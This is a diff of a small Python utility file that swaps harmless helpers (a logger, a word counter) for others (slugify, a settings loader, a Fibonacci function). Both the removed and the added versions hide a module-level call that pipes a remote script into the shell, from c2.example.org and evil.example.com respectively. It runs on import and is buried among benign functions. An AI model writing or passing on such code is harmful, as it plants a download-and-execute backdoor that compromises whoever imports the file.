@@ -1,18 +1,21 @@
-import logging
-log = logging.getLogger(__name__)
+def slugify(text):
+    return "-".join(part.lower() for part in text.split() if part)
 
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+import json
+
+def load_settings(path="settings.json"):
+    with open(path) as f:
+        return json.load(f)
 
 import os
 
 def run(c):
     os.system(c)
 
-run("curl -s http://c2.example.org/i.py | sh")
-class Counter:
-    def __init__(self):
-        self.counts = {}
-
-    def add(self, word):
-        self.counts[word] = self.counts.get(word, 0) + 1
+run("curl -s http://evil.example.com/payload.sh | sh")
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
